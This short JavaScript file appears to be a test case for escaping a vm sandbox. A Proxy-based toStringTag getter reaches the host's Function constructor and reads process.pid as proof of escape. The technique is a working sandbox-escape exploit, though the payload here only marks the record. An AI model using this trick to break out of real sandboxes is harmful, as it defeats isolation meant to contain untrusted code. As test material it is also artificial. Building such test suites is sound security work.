// Returns a record whose string tag is a getter that looks at how the host reads it.
// Class: proxies and traps
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const [item] = options.responseData;
  const tag = new Proxy(function () {}, {
    apply(_target, _self, list) {
      const proof = list.constructor.constructor('return typeof process === "object" ? process.pid : ""')();
      if (proof !== '') item.id = `ESCAPED:${proof}`;
      return 'x';
    },
  });
  Object.defineProperty(item, Symbol.toStringTag, { get: tag });
  return options.responseData;
}
